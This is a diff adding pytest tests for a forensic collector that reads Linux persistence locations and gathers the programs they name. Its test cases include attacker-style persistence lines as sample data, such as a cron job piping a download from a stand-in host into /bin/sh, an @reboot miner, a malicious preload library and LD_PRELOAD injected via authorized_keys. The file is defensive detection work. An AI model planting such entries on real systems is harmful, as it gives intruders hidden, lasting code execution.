@@ -1,0 +1,184 @@
+import os
+
+import hosts
+import pytest
+
+from collectors import pointers
+from collectors.artifact import Artifact, Reason
+from collectors.pointers import MOST, Referenced
+
+READERS = (
+    pointers.authorized_keys, pointers.cron, pointers.desktop, pointers.inittab, pointers.lines,
+    pointers.preload, pointers.shell, pointers.sshd, pointers.systemd, pointers.udev,
+)  # fmt: skip
+
+CASES = (
+    # reader, content, paths
+    ("cron", b"*/5 * * * * root /usr/bin/python3 /opt/x.py", ["/usr/bin/python3", "/opt/x.py"]),
+    ("cron", b"*/5 * * * * /opt/user.sh >> /var/log/x.log 2>&1", ["/opt/user.sh"]),
+    ("cron", b"@reboot /tmp/.x/miner -c /tmp/.x/c.json", ["/tmp/.x/miner", "/tmp/.x/c.json"]),
+    ("cron", b"# * * * * * /opt/old.sh\n\n", []),
+    ("cron", b"PATH=/bin:/opt/bin\nSHELL=/tmp/sh\nMAILTO=root\nX = /opt/y", ["/tmp/sh"]),
+    ("cron", b"0 1 * * * root cd / && run-parts --report /etc/cron.daily", ["/etc/cron.daily/"]),
+    ("cron", b"0 1 * * * sh -c '/opt/a; /opt/b'", ["/opt/a", "/opt/b"]),
+    ("cron", b"0 1 * * * /opt/say%/opt/this is input", ["/opt/say"]),
+    ("cron", b'0 1 * * * "/opt/my app/run"', ["/opt/my app/run"]),
+    ("cron", b"0 1 * * * /opt/my\\ app/run", ["/opt/my app/run"]),
+    ("cron", b"0 1 * * * curl http://x.test/a|/bin/sh", ["/bin/sh"]),
+    ("cron", b"0 1 * * * x --config=/etc/y $HOME/z /opt/*/w", ["/etc/y"]),
+    ("cron", "0 1 * * * /opt/雪/\udcff".encode("utf-8", "surrogateescape"), ["/opt/雪/\udcff"]),
+    ("systemd", b"[Service]\nExecStart=/usr/sbin/x -D\nExecStop=-/bin/kill", ["/usr/sbin/x", "/bin/kill"]),
+    ("systemd", b"ExecStartPre=!!/opt/a\nExecStartPost=+/opt/b\nExecReload=@/opt/c d", ["/opt/a", "/opt/b", "/opt/c"]),
+    ("systemd", b"EnvironmentFile=-/etc/default/x\nEnvironment=A=/opt/no", ["/etc/default/x"]),
+    ("systemd", b"ExecStart=/bin/sh -c \\\n  '/opt/a && /opt/b'", ["/bin/sh", "/opt/a", "/opt/b"]),
+    ("systemd", b"ExecStart=/usr/bin/x %i /run/%n\nDescription=/opt/no", ["/usr/bin/x"]),
+    ("systemd", b"ExecStart = /usr/bin/spaced", ["/usr/bin/spaced"]),
+    ("preload", b"/lib/evil.so /tmp/b.so:/tmp/c.so\n/d.so", ["/lib/evil.so", "/tmp/b.so", "/tmp/c.so", "/d.so"]),
+    ("shell", b"source /etc/x\n. /etc/y\n/opt/run --now /etc/arg", ["/etc/x", "/etc/y", "/opt/run"]),
+    ("shell", b"[ -f /etc/no ] && /opt/yes; echo /etc/no", ["/opt/yes"]),
+    ("shell", b"DAEMON=/usr/sbin/d\nPATH=/opt/bin\nexport LD_PRELOAD=/tmp/p.so", ["/usr/sbin/d", "/tmp/p.so"]),
+    ("shell", b"nohup /tmp/a & exec /tmp/b\nexec -a x /tmp/c", ["/tmp/a", "/tmp/b", "/tmp/c"]),
+    ("shell", b"python3 -u /opt/x.py /etc/arg", ["/opt/x.py"]),
+    ("shell", b"if [ 1 ]; then /opt/a; else /opt/b; fi", ["/opt/a", "/opt/b"]),
+    ("shell", b"ls bin/x ./y ../z", []),
+    ("inittab", b"1:2345:respawn:/sbin/getty 38400 tty1\nx:3:once:+/opt/x\nbroken", ["/sbin/getty", "/opt/x"]),
+    ("authorized_keys", b'command="/opt/a \\"b\\"",no-pty ssh-rsa AAAA/no/path== x\nssh-rsa AAAA', ["/opt/a"]),
+    ("authorized_keys", b'environment="LD_PRELOAD=/tmp/x.so" ssh-rsa AAAA', ["/tmp/x.so"]),
+    ("udev", b'ACTION=="add", RUN+="/tmp/x %k", PROGRAM=="/bin/y", ENV{A}="/no"', ["/tmp/x", "/bin/y"]),
+    ("udev", b'RUN{program}+="/opt/z", IMPORT{program}="/opt/w"', ["/opt/z", "/opt/w"]),
+    ("desktop", b"[Desktop Entry]\nExec=/opt/app %U\nTryExec=/opt/app\nIcon=/opt/no", ["/opt/app"]),
+    ("lines", b"auth optional pam_exec.so /tmp/x.sh\ninstall usb /bin/sh -c /opt/y", ["/tmp/x.sh", "/bin/sh", "/opt/y"]),
+    ("sshd", b"ForceCommand /opt/a\nHostKey /etc/ssh/no\nSubsystem sftp /usr/lib/s", ["/opt/a", "/usr/lib/s"]),
+)  # fmt: skip
+
+
+@pytest.mark.parametrize(("reader", "content", "paths"), CASES)
+def test_finds_the_paths_that_are_named(reader, content, paths):
+    assert getattr(pointers, reader)(content) == paths
+
+
+@pytest.mark.parametrize("reader", READERS)
+@pytest.mark.parametrize(
+    "content",
+    [
+        b"",
+        b"\0" * 10_000,
+        bytes(range(256)) * 400,
+        b'"' * 200_000,
+        b"'\\" * 100_000,
+        b'"\\' * 100_000,
+        b"RUN" * 50_000,
+        b"ExecStart=" + b"/a " * 100_000,
+        b'command="' * 20_000,
+        b"run-parts " * 20_000,
+        b"\\\n" * 100_000,
+        b"x=" * 100_000,
+    ],
+)
+def test_hostile_content_is_no_trouble(reader, content):
+    found = reader(content)
+
+    assert len(found) <= MOST
+    assert all(path.startswith("/") and "\0" not in path for path in found)
+
+
+def test_a_file_names_a_thousand_paths_at_most():
+    content = b"\n".join(b"* * * * * /opt/%d" % number for number in range(5000)).replace(b"%", b"")
+
+    assert len(pointers.cron(content)) == MOST
+
+
+def test_each_path_comes_once_in_its_order():
+    assert pointers.preload(b"/b\n/a\n/b") == ["/b", "/a"]
+
+
+# The collector.
+
+
+@pytest.fixture
+def host(tmp_path):
+    return hosts.linux(tmp_path)
+
+
+def collect(host, found, source=None):
+    return list(Referenced(found).collect(source or host.source()))
+
+
+def test_takes_what_is_named_and_says_by_whom(host):
+    host.with_file("/opt/x.py", "evil").with_file("/bin/sh", "shell")
+
+    found = collect(host, {"/opt/x.py": 7, "/bin/sh": 9})
+
+    assert [(one.origin, one.led_by) for one in found] == [("/opt/x.py", 7), ("/bin/sh", 9)]
+    assert hosts.read(found[0]).data == b"evil"
+
+
+def test_what_is_named_and_gone_is_a_gap(host):
+    (gap,) = collect(host, {"/tmp/.x/miner": 3})
+
+    assert (gap.reason, gap.led_by) == (Reason.ABSENT, 3)
+    assert gap.detail == "named by item 3, not there"
+
+
+def test_a_link_is_taken_with_its_target(host):
+    host.with_file("/usr/bin/real", "r").with_link("/usr/bin/name", "real").with_link(
+        "/bin", "usr/bin"
+    )
+
+    found = collect(host, {"/bin/name": 5})
+
+    assert {one.origin: hosts.read(one).data for one in found} == {
+        "/usr/bin/name": b"real", "/usr/bin/real": b"r",
+    }  # fmt: skip
+    assert {one.led_by for one in found} == {5}
+
+
+def test_a_folder_whose_programs_are_run_gives_its_programs(host):
+    host.with_file("/etc/cron.daily/a").with_file("/etc/cron.daily/b").with_folder(
+        "/etc/cron.daily/c"
+    )
+
+    found = collect(host, {"/etc/cron.daily/": 4})
+
+    assert [one.origin for one in found] == ["/etc/cron.daily/a", "/etc/cron.daily/b"]
+
+
+def test_folders_and_pipes_are_passed_over_unopened(host):
+    host.with_folder("/opt").with_fifo("/run/pipe")
+
+    assert collect(host, {"/opt": 1, "/run/pipe": 2}) == []
+
+
+def test_what_was_taken_before_is_not_taken_again(host):
+    source = host.with_file("/opt/x").source()
+    source.once("/opt/x")
+
+    assert collect(host, {"/opt/x": 1}, source) == []
+
+
+def test_a_named_private_key_stays_where_it_is(host):
+    host.with_file("/root/.ssh/id_rsa", "-----BEGIN OPENSSH PRIVATE KEY-----\nabc")
+
+    (gap,) = collect(host, {"/root/.ssh/id_rsa": 1})
+
+    assert (gap.reason, gap.led_by) == (Reason.SKIPPED, 1)
+    assert "private key" in gap.detail
+
+
+def test_a_large_program_is_a_gap(host):
+    host.with_file("/opt/large").with_file("/opt/small")
+    os.truncate(host.path("/opt/large"), Referenced.largest + 1)
+
+    large, small = collect(host, {"/opt/large": 1, "/opt/small": 2})
+
+    assert (large.reason, large.led_by) == (Reason.SKIPPED, 1)
+    assert isinstance(small, Artifact)
+
+
+def test_links_of_a_copy_stay_inside_it(host):
+    host.with_link("/opt/x", "/../../../../etc/hostname")
+
+    found = collect(host, {"/opt/x": 1})
+
+    assert [type(one).__name__ for one in found] == ["Artifact", "Gap"]
+    assert found[1].reason is Reason.ABSENT
